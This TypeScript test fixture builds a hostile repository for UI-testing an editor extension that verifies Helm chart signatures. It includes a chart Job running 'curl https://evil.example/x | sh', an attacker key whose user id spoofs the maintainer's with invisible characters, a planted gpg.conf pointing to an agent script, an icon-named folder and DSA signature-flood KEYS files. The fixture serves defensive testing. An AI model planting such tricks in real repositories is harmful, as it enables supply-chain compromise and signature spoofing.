// The hostile repository of issue 11, built fresh for the UI test (nothing large is committed), and
// the clean home folder of its victim:
//
//   charts/prebuilt/                        clean source
//   charts/prebuilt-0.1.0.tgz(.prov)        packaged from a modified copy (a `curl … | sh` Job), signed
//                                           by the attacker's key; hidden with files.exclude
//   charts/devapp/ + devapp-1.2.3.tgz(.prov) signed by the maintainer (rsa2048): verified
//   charts/$(verified-filled) Verified by Mallory/   a chart whose folder name is an icon
//   $HOME/.gnupg/pubring.gpg                the attacker's public key: read, it would verify prebuilt
//   $HOME/.gnupg/gpg.conf                   `agent-program ./evil-agent.sh`
//   evil-agent.sh (and in $HOME/.gnupg/)    leaves a marker outside the repository when run
//   KEYS                                    the attacker's key, its user id the maintainer's with
//                                           invisible characters in it
//   vendor/mirror-N.KEYS,                   KEYS files that cost their whole checking budget (a DSA
//   vendor/$(verified-filled) Verified by Mallory.KEYS   self-signature flood): indexing reads KEYS
//                                           files one after the other, before charts, so its progress
//                                           shows (VS Code shows window progress after 300 ms, and at
//                                           most one message per 100 ms) and names each of them
//
// The victim's home holds the maintainer's key only (public keyring and secret key for gpg), and a
// "gpg" that records every run (its working directory and arguments) before running the real one.
import { spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { packageChart } from '../../server/src/provenance/package';
import { signArchive } from '../../server/src/provenance/sign';
import { armor } from '../hostile/support/pgp';
import { dsaSelfSignatureFlood } from '../hostile/support/keys';
import { GpgHome, signedCases, signedKeys } from '../support/tools';
import { unpackChart } from '../vscode/fixtureWorkspace';

/** The maintainer's user id with a word joiner, a soft hyphen, a Mongolian vowel separator and a tag letter in it. */
export const invisibleUid = 'dev\u2060 Rsa\u00AD Signer\u180E <rsa2048@dev.example>\u{E0041}';
/** How the escaper writes those four characters. */
export const invisibleEscapes = ['\\u2060', '\\u00ad', '\\u180e', '\\u{e0041}'];
export const maintainerFingerprint = fs.readFileSync(path.join(signedKeys, 'rsa2048.fpr'), 'utf8').trim();
/** A name that is an icon and a claim, given to a chart folder and to a KEYS file. */
export const iconName = '$(verified-filled) Verified by Mallory';
export const evilJob = 'kind: Job\nspec:\n  command: ["sh", "-c", "curl https://evil.example/x | sh"]\n';

export interface HostileRepository {
  /** The repository folder (a fresh copy is opened in each window). */
  root: string;
  /** The victim's HOME: `.gnupg/pubring.gpg` and the secret key of the maintainer. */
  home: string;
  /** A "gpg" that appends `<working directory>\t<arguments>` to `gpgRuns`, then runs gpg. */
  gpgWrapper: string;
  gpgRuns: string;
  /** Written by evil-agent.sh if anything ever runs it. */
  agentMarker: string;
  attackerFingerprint: string;
}

/** Runs the real gpg; answers its output as bytes (exports may be binary). */
function gpg(args: string[]): Buffer {
  const run = spawnSync('gpg', ['--batch', '--no-tty', ...args]);
  if (run.status !== 0) throw new Error(`gpg ${args.join(' ')}: ${run.stderr.toString()}`);
  return run.stdout;
}

function write(file: string, content: string | Buffer, mode?: number): void {
  fs.mkdirSync(path.dirname(file), { recursive: true });
  fs.writeFileSync(file, content, mode === undefined ? {} : { mode });
}

/** The attacker's key (made by gpg): public part to `pubring`, armored to `keysFile`, secret part answered. */
function makeAttackerKey(pubring: string, keysFile: string, secretKeyring: string): string {
  const home = new GpgHome();
  try {
    const made = home.run(['--passphrase', '', '--pinentry-mode', 'loopback', '--quick-gen-key', invisibleUid, 'ed25519', 'sign', 'never']);
    if (made.status !== 0) throw new Error(`gpg --quick-gen-key: ${made.stderr}`);
    const fingerprint = /^fpr:+([0-9A-F]{40}):/m.exec(home.run(['--list-keys', '--with-colons']).stdout)?.[1];
    if (!fingerprint) throw new Error('no fingerprint in gpg\'s listing');
    write(pubring, gpg(['--homedir', home.dir, '--export', fingerprint]));
    write(keysFile, gpg(['--homedir', home.dir, '--armor', '--export', fingerprint]));
    write(secretKeyring, gpg(['--homedir', home.dir, '--pinentry-mode', 'loopback', '--passphrase', '', '--export-secret-keys', fingerprint]));
    return fingerprint;
  } finally {
    home.dispose();
  }
}

/** `charts/prebuilt/` clean, its archive built from a copy with a `curl | sh` Job and signed by the attacker. */
async function addPrebuiltChart(root: string, scratch: string, attackerFingerprint: string, attackerSecret: string): Promise<void> {
  const source = path.join(root, 'charts', 'prebuilt');
  write(path.join(source, 'Chart.yaml'), 'apiVersion: v2\nname: prebuilt\nversion: 0.1.0\n');
  write(path.join(source, 'templates', 'job.yaml'), 'kind: Job\nspec:\n  command: ["echo", "hello"]\n');
  const modified = path.join(scratch, 'modified', 'prebuilt');
  fs.cpSync(source, modified, { recursive: true });
  fs.writeFileSync(path.join(modified, 'templates', 'job.yaml'), evilJob);
  const packaged = await packageChart(modified, { outDir: path.join(root, 'charts') });
  if (!packaged.ok) throw new Error(`packaging the modified copy: ${packaged.error.message}`);
  const signed = await signArchive({ archivePath: packaged.value.archivePath, keyQuery: attackerFingerprint, secretKeyrings: [attackerSecret] });
  if (!signed.ok) throw new Error(`signing the shipped archive: ${signed.error.message}`);
}

/** The victim's home: the maintainer's public keyring where the settings point, and the secret key in gpg. */
function makeHome(home: string): void {
  const gnupg = path.join(home, '.gnupg');
  fs.mkdirSync(gnupg, { recursive: true, mode: 0o700 });
  fs.copyFileSync(path.join(signedKeys, 'rsa2048.pub.gpg'), path.join(gnupg, 'pubring.gpg'));
  gpg(['--homedir', gnupg, '--import', path.join(signedKeys, 'rsa2048.sec.gpg')]);
  spawnSync('gpgconf', ['--homedir', gnupg, '--kill', 'all']);
}

/** Builds the repository, the victim's home and the markers under `scratch`. */
export async function createHostileRepository(scratch: string): Promise<HostileRepository> {
  const root = path.join(scratch, 'victim-repo');
  const home = path.join(scratch, 'home');
  const agentMarker = path.join(scratch, 'evil-agent-ran');
  const gpgRuns = path.join(scratch, 'gpg-runs.log');
  const gpgWrapper = path.join(scratch, 'bin', 'gpg-recording.sh');
  write(gpgWrapper, `#!/bin/sh\nprintf '%s\\t%s\\n' "$PWD" "$*" >> '${gpgRuns}'\nexec gpg "$@"\n`, 0o755);
  makeHome(home);

  const attackerSecret = path.join(scratch, 'attacker.sec.gpg');
  const repoGnupg = path.join(root, '$HOME', '.gnupg');
  const attackerFingerprint = makeAttackerKey(path.join(repoGnupg, 'pubring.gpg'), path.join(root, 'KEYS'), attackerSecret);
  fs.chmodSync(repoGnupg, 0o700);
  write(path.join(repoGnupg, 'gpg.conf'), 'agent-program ./evil-agent.sh\n');
  // gpg resolves ./evil-agent.sh against its working directory: the repository's root or its GnuPG home.
  const agent = `#!/bin/sh\necho "ran in $PWD" >> '${agentMarker}'\nexit 1\n`;
  for (const dir of [root, repoGnupg]) write(path.join(dir, 'evil-agent.sh'), agent, 0o755);

  await addPrebuiltChart(root, scratch, attackerFingerprint, attackerSecret);
  const charts = path.join(root, 'charts');
  for (const file of ['devapp-1.2.3.tgz', 'devapp-1.2.3.tgz.prov']) fs.copyFileSync(path.join(signedCases, 'valid-rsa2048', file), path.join(charts, file));
  unpackChart(path.join(charts, 'devapp-1.2.3.tgz'), charts);
  write(path.join(charts, iconName, 'Chart.yaml'), 'apiVersion: v2\nname: mallory\nversion: 0.1.0\n');
  // Each file different: a cache keyed by content must not spare the others their cost.
  const flood = armor('PUBLIC KEY BLOCK', dsaSelfSignatureFlood());
  for (const name of ['mirror-1', 'mirror-2', iconName]) write(path.join(root, 'vendor', `${name}.KEYS`), `${name}\n\n${flood}`);
  write(path.join(root, '.vscode', 'settings.json'), JSON.stringify({ 'files.exclude': { '**/prebuilt-*.tgz': true } }, null, 2));
  return { root, home, gpgWrapper, gpgRuns, agentMarker, attackerFingerprint };
}

/** What a folder holds, one line per entry: kind, size, mode and modification time (folders too). */
export function snapshotTree(root: string): Map<string, string> {
  const entries = new Map<string, string>();
  const walk = (dir: string): void => {
    for (const entry of fs.readdirSync(dir, { withFileTypes: true })) {
      const full = path.join(dir, entry.name);
      const stat = fs.lstatSync(full);
      const kind = entry.isDirectory() ? 'dir' : entry.isFile() ? 'file' : entry.isSymbolicLink() ? 'link' : 'other';
      entries.set(path.relative(root, full), `${kind} ${stat.size} ${stat.mode.toString(8)} ${stat.mtimeMs}`);
      if (entry.isDirectory()) walk(full);
    }
  };
  entries.set('.', `dir ${fs.statSync(root).mtimeMs}`);
  walk(root);
  return entries;
}

/** The entries added, removed or changed between two snapshots, sorted. */
export function changedEntries(before: Map<string, string>, after: Map<string, string>): string[] {
  const names = new Set([...before.keys(), ...after.keys()]);
  return [...names].filter((name) => before.get(name) !== after.get(name)).sort();
}
